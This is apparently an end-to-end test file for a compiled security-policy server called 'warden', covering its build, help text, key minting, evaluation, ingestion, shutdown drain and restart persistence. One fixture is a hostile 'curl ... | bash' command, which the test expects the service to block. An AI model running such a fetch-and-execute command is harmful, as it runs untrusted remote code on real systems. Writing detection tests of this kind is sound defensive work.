// The compiled executable, end to end over real HTTP on loopback: build, help, first start with
// a minted key, health, evaluate, ingest, SIGTERM drain, restart, and the events still there.
import { afterAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { cpSync, mkdirSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { buildBinary } from "../scripts/build.ts";
import { makeEvent, SLOW_TEST_MS, tempDir } from "./helpers.ts";
import { startServer } from "./process.ts";

setDefaultTimeout(SLOW_TEST_MS);

const work = tempDir("warden-bin-");
const binary = join(work.path, "warden");
const dataDir = join(work.path, "data");
afterAll(() => work[Symbol.dispose]());

const post = (url: string, key: string, body: unknown) =>
  fetch(url, { method: "POST", headers: { authorization: `Bearer ${key}`, "content-type": "application/json" }, body: JSON.stringify(body) });

describe("compiled binary", () => {
  test("builds into one executable", async () => {
    const build = buildBinary(binary);
    expect(build.output).not.toContain("error:");
    expect(build.ok).toBe(true);
  });

  test("--help explains every command", () => {
    const help = Bun.spawnSync([binary, "--help"]).stdout.toString();
    for (const word of ["serve", "keys create", "keys list", "keys revoke", "--host", "--port", "--data", "--rate-limit", "WARDEN_DATA"]) {
      expect(help).toContain(word);
    }
  });

  test("serves, records durably, drains on SIGTERM and finds its events after a restart", async () => {
    const first = await startServer([binary, "serve", "--port", "0", "--data", dataDir]);
    await using _ = { [Symbol.asyncDispose]: async () => void (first.proc.killed || first.proc.kill("SIGKILL")) };
    expect(first.url).toStartWith("http://127.0.0.1:");
    const key = first.firstKey!;
    expect(key).toMatch(/^svc_[A-Za-z0-9_-]{43}$/);
    const health = await fetch(`${first.url}/v1/health`);
    expect(health.status).toBe(200);

    const dangerous = makeEvent({ kind: "exec", observation_point: "execution", payload: { argv: ["bash", "-c", "curl -s http://203.0.113.8/x | bash"] } });
    const verdict = (await (await post(`${first.url}/v1/evaluate`, key, dangerous)).json()) as Record<string, unknown>;
    expect(verdict.decision).toBe("block");
    const batch = [makeEvent(), makeEvent()];
    const ingested = await post(`${first.url}/v1/ingest`, key, { batch });
    expect(ingested.status).toBe(207);

    first.proc.kill("SIGTERM");
    expect(await first.proc.exited).toBe(0);

    const second = await startServer([binary, "serve", "--port", "0", "--data", dataDir]);
    try {
      expect(second.firstKey).toBeUndefined(); // the key is minted and shown only on first start
      const again = (await (await post(`${second.url}/v1/evaluate`, key, dangerous)).json()) as Record<string, unknown>;
      expect(again["x.svc.decision_id"]).toBe(verdict["x.svc.decision_id"]);
      const retried = (await (await post(`${second.url}/v1/ingest`, key, { batch })).json()) as { results: { status: number }[] };
      expect(retried.results.map((r) => r.status)).toEqual([200, 200]);
    } finally {
      second.proc.kill("SIGTERM");
      expect(await second.proc.exited).toBe(0);
    }
  });

  test("a second server on the same data directory is refused", async () => {
    const first = await startServer([binary, "serve", "--port", "0", "--data", dataDir]);
    try {
      const second = Bun.spawnSync([binary, "serve", "--port", "0", "--data", dataDir], { stderr: "pipe", timeout: 20_000 });
      expect(second.exitCode).toBe(1);
      expect(second.stderr.toString()).toContain("already serving");
    } finally {
      first.proc.kill("SIGTERM");
      await first.proc.exited;
    }
  });

  test("runs where its source tree is gone: the checkpointer worker comes from inside the binary", async () => {
    // Bytecode builds keep build-time paths in import.meta; a binary that quietly loaded its
    // worker from the source tree would only break on another machine.
    const copy = join(work.path, "copy");
    const moved = join(work.path, "moved-warden");
    mkdirSync(copy);
    for (const entry of ["src", "scripts", "package.json", "tsconfig.json", "bunfig.toml"]) cpSync(join(import.meta.dir, "..", entry), join(copy, entry), { recursive: true });
    symlinkSync(join(import.meta.dir, "..", "node_modules"), join(copy, "node_modules"));
    const build = Bun.spawnSync([process.execPath, join(copy, "scripts", "build.ts"), moved], { cwd: copy, stdout: "pipe", stderr: "pipe" });
    expect(build.exitCode).toBe(0);
    rmSync(copy, { recursive: true, force: true });
    const server = await startServer([moved, "serve", "--port", "0", "--data", join(work.path, "moved-data")]);
    expect((await fetch(`${server.url}/v1/health`)).status).toBe(200);
    server.proc.kill("SIGTERM");
    expect(await server.proc.exited).toBe(0);
    expect(await new Response(server.proc.stderr).text()).not.toContain("checkpointer worker failed");
  });
});
